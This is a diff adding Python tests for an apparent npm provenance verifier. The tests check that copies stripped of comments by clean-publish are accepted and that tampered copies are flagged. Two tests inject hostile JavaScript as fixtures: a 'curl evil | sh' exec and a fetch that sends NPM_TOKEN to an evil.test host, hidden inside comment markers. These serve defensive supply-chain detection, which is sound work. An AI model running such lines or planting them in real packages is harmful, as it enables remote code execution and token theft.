@@ -1,0 +1,81 @@
+"""Packages published through clean-publish (`cleanComments`): each script is the commit's with its comments and
+blank lines removed. Plain `verify PURL` vouches for such files only when they are exactly that, and only when
+the repository publishes through clean-publish; a line added to the cleaned copy is still `mismatch`."""
+
+from __future__ import annotations
+
+from ossprov import stages
+from ossprov.fixtures.world import World
+from ossprov.model import FileStatus, Severity, Verdict
+from tests.conftest import npm_project
+
+SOURCE = """#!/usr/bin/env node
+/*! nano fixture, MIT licence */
+import { webcrypto as crypto } from 'node:crypto'
+
+// A pool of random bytes, refilled when it runs out: "//" and "/*" in strings are code, not comments.
+const POOL_SIZE_MULTIPLIER = 128
+
+export let random = bytes => {
+  let url = 'https://example.test//x/*y*/' // the string stays
+  return crypto.getRandomValues(new Uint8Array(bytes)) /* inline */ && url
+}
+"""
+CLEANED = """#!/usr/bin/env node
+/*! nano fixture, MIT licence */
+import { webcrypto as crypto } from 'node:crypto'
+const POOL_SIZE_MULTIPLIER = 128
+export let random = bytes => {
+  let url = 'https://example.test//x/*y*/'
+  return crypto.getRandomValues(new Uint8Array(bytes))  && url
+}
+"""
+
+
+def _published(world: World, name: str, *, cleaner: bool = True):
+    extra = {"devDependencies": {"clean-publish": "^4.2.0"}} if cleaner else {}
+    repo, pkg = npm_project(world, f"acme/{name}", name, "1.0.0", {"index.js": SOURCE}, extra=extra)
+    repo.commit("release")
+    return world.npm_pack(pkg)
+
+
+def _highs(result) -> list:
+    return [f for f in result.findings if f.severity is Severity.HIGH]
+
+
+def test_scripts_cleaned_of_comments_are_normalized(world: World) -> None:
+    tarball = _published(world, "nano")
+    result = stages.verify(world.publish_npm(World.tamper_npm(tarball, {"index.js": CLEANED.encode()})))
+    assert not _highs(result), result.findings
+    assert result.verdict is Verdict.FAITHFUL
+    index = next(r for r in result.file_results if r.path == "index.js")
+    assert index.status is FileStatus.NORMALIZED and "clean-publish" in index.reason
+
+
+def test_a_line_added_to_the_cleaned_copy_is_mismatch(world: World) -> None:
+    tarball = _published(world, "nano")
+    evil = CLEANED.replace("const POOL", "require('child_process').exec('curl evil | sh')\nconst POOL")
+    result = stages.verify(world.publish_npm(World.tamper_npm(tarball, {"index.js": evil.encode()})))
+    assert result.verdict is Verdict.MISMATCH
+    assert any(f.path == "index.js" and f.rule == "OSP101" for f in _highs(result))
+
+
+def test_code_hidden_in_what_looks_like_a_comment_is_mismatch(world: World) -> None:
+    """The published copy is never scanned for comments: code inside a `/* */` there is not in the source."""
+    tarball = _published(world, "nano")
+    evil = CLEANED.replace("const POOL", "/* */ fetch('https://evil.test/' + process.env.NPM_TOKEN) /* */\nconst POOL")
+    result = stages.verify(world.publish_npm(World.tamper_npm(tarball, {"index.js": evil.encode()})))
+    assert result.verdict is Verdict.MISMATCH
+
+
+def test_code_removed_from_the_cleaned_copy_is_mismatch(world: World) -> None:
+    tarball = _published(world, "nano")
+    result = stages.verify(world.publish_npm(World.tamper_npm(tarball, {"index.js": CLEANED.replace(
+        "crypto.getRandomValues(new Uint8Array(bytes))  && ", "").encode()})))
+    assert result.verdict is Verdict.MISMATCH
+
+
+def test_without_clean_publish_in_the_repository_a_stripped_copy_is_not_explained(world: World) -> None:
+    tarball = _published(world, "plainnano", cleaner=False)
+    result = stages.verify(world.publish_npm(World.tamper_npm(tarball, {"index.js": CLEANED.encode()})))
+    assert any(f.path == "index.js" and f.rule == "OSP101" for f in _highs(result))
